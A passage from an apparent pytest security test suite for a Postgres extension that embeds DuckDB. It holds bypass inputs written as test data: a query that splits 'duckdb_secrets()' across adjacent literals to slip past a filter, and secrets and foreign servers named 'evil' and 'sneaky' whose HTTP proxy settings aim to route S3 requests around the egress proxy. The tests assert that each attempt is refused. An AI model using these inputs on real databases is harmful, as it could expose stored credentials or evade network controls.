                     "SELECT count(*)::VARCHAR FROM read_json('s3://bucket/deep/deep.json')"]:
            try:
                q(conn, text)
            except psycopg.Error as e:
                assert not conn.broken, f"the backend died: {text}"
                assert_clean_error(e, CANARY)
    assert cluster.pid == postmaster and alice.execute(READ).fetchone() == (10,)


def test_adjacent_literals_are_not_a_way_around_the_check(db, world):
    """One case end to end; the list: tests/test_refusals.py."""
    refused(db.connect(world["carol"]), "SELECT * FROM query('SELECT * FROM duckdb_'\n'secrets()')")


def test_a_table_rows_proxy_is_not_a_way_around_the_egress_proxy(db, world, counter):
    """A row with http_proxy would send requests straight to that proxy."""
    from test_table_storage import client
    client(db, f"CREATE SECRET evil_http IN postgres_p (TYPE http, HTTP_PROXY '127.0.0.1:{counter.port}', "
               "SCOPE 's3://evil')",
           f"CREATE SECRET evil_s3 IN postgres_p (TYPE s3, KEY_ID 'k', SECRET 's', "
           f"HTTP_PROXY '127.0.0.1:{counter.port}', SCOPE 's3://evil2')")
    db.conn.execute(f'GRANT SELECT ON duckdb_secrets TO "{world["bob"]}"')
    bob = db.connect(world["bob"])
    notices = []
    bob.add_notice_handler(lambda d: notices.append(d.message_primary))
    for url in ("s3://evil/x.csv", "s3://evil2/x.csv"):
        with pytest.raises(psycopg.Error):
            q(bob, f"SELECT count(*)::VARCHAR FROM read_csv('{url}')")
    assert counter.hits == []
    assert sum("proxy options" in n for n in notices) == 2, notices
    assert "evil_http" not in [r[0] for r in db.conn.execute("SELECT name FROM duckdb.secrets()")]


def test_a_lesser_owners_proxy_is_not_a_way_around_the_egress_proxy(db, world, lesser_admin, counter):
    name, admin = lesser_admin
    admin.execute(f"CREATE SERVER sneaky TYPE 's3' FOREIGN DATA WRAPPER duckdb OPTIONS (scope 's3://sneaky', "
                  f"http_proxy '127.0.0.1:{counter.port}')")
    admin.execute("CREATE USER MAPPING FOR PUBLIC SERVER sneaky OPTIONS (key_id 'k', secret 's')")
    admin.execute(f'GRANT USAGE ON FOREIGN SERVER sneaky TO "{world["bob"]}"')
    for conn in (admin, db.connect(world["bob"])):
        assert "sneaky" not in [r[0] for r in conn.execute(
            "SELECT name FROM duckdb.secrets() WHERE storage <> 'skipped'")]
        with pytest.raises(psycopg.Error):
            q(conn, "SELECT count(*)::VARCHAR FROM read_csv('s3://sneaky/x.csv')")
    assert counter.hits == []
